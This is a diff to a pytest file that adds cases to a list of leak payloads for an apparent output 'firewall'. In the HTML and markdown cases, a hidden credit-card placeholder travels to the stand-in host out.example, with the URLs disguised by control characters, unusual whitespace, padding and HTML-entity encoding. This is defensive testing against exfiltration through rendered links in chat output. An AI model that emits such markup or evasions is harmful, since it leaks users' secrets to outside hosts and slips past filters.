@@ -7,6 +7,7 @@ from firewalls import CARD, Wall, chat, said, streamed
 pytestmark = pytest.mark.anyio
 HIDDEN = "<CREDIT_CARD_1>"
 OUT = "https://out.example/?c="
+LETTER = "\u00e9"
 LEAKS = [
     f'<img src="{OUT} {HIDDEN}">',
     f'<img src="{OUT}<https://docs.example> {HIDDEN}">',
@@ -14,8 +15,16 @@ LEAKS = [
     f"[x]({OUT}\t{HIDDEN})",
     f"[x](<{OUT} {HIDDEN}>)",
     f"see {OUT}{'a' * 3000}{HIDDEN}",
+    f"[x]({OUT}{LETTER * 3000}{HIDDEN})",
     f"www.out.example/?c={HIDDEN}",
     f"mailto:me@out.example?body={HIDDEN}",
+    f"[x](\x0b{OUT}{HIDDEN})",
+    f"<img src={OUT}\u00a0{HIDDEN}>",
+    f"<img src={OUT}\x1f\u3000{HIDDEN}>",
+    f'<img src="{" " * 20}{OUT} {HIDDEN}">',
+    f"<p style=\"background: url( '{OUT} {HIDDEN}')\">",
+    f'<img src="&#x2f;&sol;out.example/?c= {HIDDEN}">',
+    f"<img src=&#104;ttps&colon;&#x2f;&#x2f;out.example/?c={HIDDEN}>",
 ]
 HARMLESS = [
     f"pay with {HIDDEN}",
